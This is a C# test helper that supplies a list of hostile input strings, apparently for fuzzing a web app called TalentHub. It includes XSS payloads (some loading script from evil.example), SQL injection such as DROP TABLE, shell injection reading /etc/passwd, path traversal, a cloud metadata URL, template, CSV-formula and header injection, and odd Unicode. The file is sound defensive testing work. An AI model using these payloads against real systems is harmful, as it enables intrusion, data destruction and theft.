using System.Text.Json;

namespace TalentHub.Web.Tests.Attack;

/// <summary>
/// Texts made to hurt whatever reads them. Those that stand here are enough anywhere; <c>TALENTHUB_SECURITY_SAMPLES</c> names a folder with more (a list <c>naughty_strings.json</c>, one a line in <c>payloads</c>).
/// </summary>
public static class HostileWords
{
    private static readonly string[] Here =
    [
        // Script, in every place where a page might put a text.
        "<script>alert('hostile')</script>", "\"><script src=//evil.example/x.js></script>", "' onmouseover='alert(1)' x='", "\" autofocus onfocus=alert(1) x=\"", "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>", "javascript:alert(1)", "JaVaScRiPt:alert(1)//", "data:text/html,<script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "<iframe src=javascript:alert(1)>", "<base href=//evil.example/>", "<style>@import '//evil.example/x.css';</style>",
        "<a href=\"javascript:alert(1)\">x</a>", "<form action=//evil.example><input name=p>", "&lt;script&gt;alert(1)&lt;/script&gt;", "\u003cscript\u003ealert(1)", "<x hx-get=/admin hx-trigger=load>", "{\"a\":\"</script>\"}",

        // Databases, shells, templates, paths, formulas, headers.
        "' OR 1=1 --", "'; DROP TABLE People; --", "1); DELETE FROM Accounts; --", "\" OR \"\"=\"", "%' AND 1=(SELECT 1) AND '%'='", "*)(uid=*))(|(uid=*", "{\"$gt\":\"\"}", "[$ne]=1",
        "`id`", "$(id)", "| cat /etc/passwd", "{{7*7}}", "${7*7}", "#{7*7}", "@(1+1)", "@Model.GetType()", "%s%s%s%n", "{0}{1}{999}", "{name} {link}", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd\0.pdf",
        "%2e%2e%2f%2e%2e%2f", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "//evil.example", "/\\evil.example", "https:evil.example", "/%09/evil.example", "=1+1", "=cmd|' /C calc'!A0", "+1-1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1",
        "a\r\nBcc: other@example.org\r\n\r\nbody", "a\r\nSet-Cookie: evil=1", "a\nX-Evil: 1", "\"; filename=\"evil.exe", "BEGIN:VCALENDAR\r\nEND:VCALENDAR", "AND", "OR", "NEAR(a b)", "\"unclosed", "name:", "*", "a*b*", "^", "-", "(", ")",

        // What is hardly a text.
        "\0", "a\0b", "\u0001\u0002\u0007\u0008\u000b\u001b[31m\u007f", "\uFEFF", "\uFFFE", "\uFFFF", "\uFFFD", "\u202Egnp.exe\u202C", "\u2066x\u2069", "\u200B", "\u00AD", "\u0000\uFFFF\u0000", "\u2028\u2029", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324",
        "👩‍💻😀 名字", "田中さんにあげて下さい", "ﷺ", "İıŞşß", "\u1E9E\u0130", "ﬀ", "Ⅷ①½", "מִטְרָה", "\U0001F468\u200D\U0001F469\u200D\U0001F467", "e\u0301\u0302\u0303\u0304",

        // What is hardly a number, a day, an id.
        "0", "-0", "-1", "1e308", "1e-999", "NaN", "Infinity", "-Infinity", "0x7fffffff", "2147483648", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "99999999999999999999999999", "1,5", "1.5.5", "１２", "٣", "1 000", " 1", "+1",
        "0001-01-01", "9999-12-31", "2026-02-30", "2026-13-45", "10000-01-01", "2026-03-03T25:61", "00:00:60", "24:00", "00000000-0000-0000-0000-000000000000", "6f9619ff-8b86-d011-b42d-00c04fc964ff", "{6f9619ff-8b86-d011-b42d-00c04fc964ff}",
        "true", "false", "on", "null", "undefined", "None", "NIL", "[]", "{}", "[object Object]", "constructor", "__proto__", "CON", "NUL", "aux.txt", "en", "zh-CN", "xx-YY", "Asia/Shanghai", "Mars/Phobos", "USD", "ZZZ",
        "", " ", "   ", "\t", "\r\n", "%", "%00", "%zz", "%C0%AF", "%ED%A0%80", "%F4%90%80%80", "+", "&", "?", "#", ";", "\\", "/", "//", "'", "\"",
    ];

    public static readonly IReadOnlyList<string> All = [.. Here, .. Further()];

    /// <summary>One of them, now and then a long one.</summary>
    public static string Any(Random chance) => chance.Next(40) switch
    {
        0 => new string('x', 1 << chance.Next(8, 17)),
        1 => string.Concat(Enumerable.Repeat(All[chance.Next(All.Count)], chance.Next(2, 60))),
        2 => All[chance.Next(All.Count)] + All[chance.Next(All.Count)],
        _ => All[chance.Next(All.Count)],
    };

    private static IEnumerable<string> Further()
    {
        var folder = Environment.GetEnvironmentVariable("TALENTHUB_SECURITY_SAMPLES");
        if (!Directory.Exists(folder))
        {
            return [];
        }

        var lists = Path.Combine(folder, "payloads");
        var list = Path.Combine(folder, "naughty_strings.json");
        var lines = Directory.Exists(lists) ? Directory.EnumerateFiles(lists, "*.txt").Order(StringComparer.Ordinal).SelectMany(File.ReadLines).Where(l => l.Length > 0) : [];
        return File.Exists(list) ? lines.Concat(JsonDocument.Parse(File.ReadAllText(list)).RootElement.EnumerateArray().Select(e => e.GetProperty("string").GetString()!)) : lines;
    }
}
